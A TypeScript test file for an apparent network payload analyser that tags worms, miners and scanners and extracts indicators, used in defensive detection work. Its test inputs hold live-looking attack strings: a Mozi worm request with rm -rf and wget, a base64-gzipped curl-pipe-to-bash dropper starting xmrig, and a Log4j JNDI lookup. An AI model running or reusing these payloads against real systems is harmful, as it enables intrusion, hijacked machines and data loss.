// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a Log4j look-up
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { numbers } from '#codec/testing.ts'
import { describePayload } from './describe.ts'
import { clientSamples } from './testing-samples.ts'

const describe = (text: string, port?: number) =>
  describePayload(Buffer.from(text, 'latin1'), port === undefined ? {} : { port })

test('a worm over HTTP on a strange port', () => {
  const { description, exploits, identified } = describe(
    'GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9:4000/Mozi.a;chmod+777+Mozi.a HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 127.0.0.1:80\r\n\r\n',
    60_001,
  )
  assert.equal(description.protocol, 'http')
  assert.equal(identified?.service, 'http')
  for (const tag of ['worm', 'MOZI', 'CVE-2016-20016', 'text']) assert.ok(description.tags.includes(tag), tag)
  assert.ok(exploits.some(({ id, evidence }) => id === 'CVE-2016-20016' && evidence.startsWith('/shell?cd+/tmp')))
  assert.deepEqual(description.indicators, [
    { kind: 'url', value: 'http://192.0.2.9:4000/Mozi.a' },
    { kind: 'command', value: 'wget http://192.0.2.9:4000/Mozi.a' },
    { kind: 'ipv4', value: '192.0.2.9:4000' },
  ])
  assert.deepEqual(description.layers, [])
})

test('what a wrapping hides is told like the rest', () => {
  const inner =
    '#!/bin/sh\n(curl -fsSL http://192.0.2.9/x || wget -q -O - http://192.0.2.9/x) | bash; ./xmrig -o pool.example:3333\n'
  const { description, exploits } = describe(`{"cmd":"echo ${gzipSync(inner).toString('base64')}|base64 -d|gunzip|sh"}`)
  assert.deepEqual(description.layers, ['base64', 'base64 > gzip'])
  for (const tag of ['miner', 'XMRIG', 'script', 'gzip', 'base64']) assert.ok(description.tags.includes(tag), tag)
  assert.ok(exploits.some(({ id }) => id === 'XMRIG'))
  assert.ok(description.indicators.some(({ kind, value }) => kind === 'pool' && value === 'pool.example:3333'))
})

test('those who count machines are tags, not attacks', () => {
  const { description, exploits } = describe('GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n')
  assert.ok(description.tags.includes('ZGRAB') && description.tags.includes('scanner'))
  assert.deepEqual(exploits, [])
})

test('bytes that say nothing are described all the same', () => {
  const { description, exploits, identified } = describe('\x01\xfe\xdc\xba\x98')
  assert.deepEqual(
    { ...description, shape: '' },
    { tags: ['binary'], entropy: 2.32, shape: '', layers: [], indicators: [] },
  )
  assert.deepEqual([exploits, identified], [[], undefined])
  assert.equal(describe('').description.entropy, 0)
})

test('near-identical payloads have one shape', () => {
  const probe = (host: string, id: number) =>
    describe(`GET /boaform/admin/formLogin?username=ec8&psd=${id} HTTP/1.0\r\nHost: ${host}\r\n\r\n`).description.shape
  assert.equal(probe('192.0.2.1', 4), probe('198.51.100.99', 77_777))
  assert.notEqual(probe('192.0.2.1', 4), describe('GET /other HTTP/1.0\r\n\r\n').description.shape)
})

test('whatever is sent, what is told is printable and bounded', () => {
  const draw = numbers(5)
  const pieces = [
    ...clientSamples.map(({ bytes }) => bytes),
    ...[
      '${jndi:ldap://192.0.2.9/a}',
      ';wget http://192.0.2.9/a',
      'AKIAAAAAAAAAAAAAAAAA',
      '\\x41\\x42\\x43\\x44',
      '%41%42%43',
    ].map(text => Buffer.from(text)),
  ]
  for (let n = 0; n < 4000; n++) {
    const bytes = Buffer.concat(Array.from({ length: 1 + draw(4) }, () => pieces[draw(pieces.length)]!))
    for (let flips = draw(10); flips >= 0; flips--) bytes[draw(bytes.length)]! ^= 1 << draw(8)
    const { description, exploits } = describePayload(bytes, { port: draw(65_536) })
    assert.ok(description.indicators.length <= 64 && description.tags.length <= 32 && exploits.length <= 16)
    for (const text of [
      ...description.indicators.map(({ value }) => value),
      ...exploits.map(({ evidence }) => evidence),
    ])
      assert.ok(text.length <= 1100, JSON.stringify(text))
    assert.ok(description.entropy >= 0 && description.entropy <= 8)
  }
  for (const size of [64 << 10, 1 << 20]) describePayload(Buffer.alloc(size, 'QUJD wget http://192.0.2.9/ %41'))
})
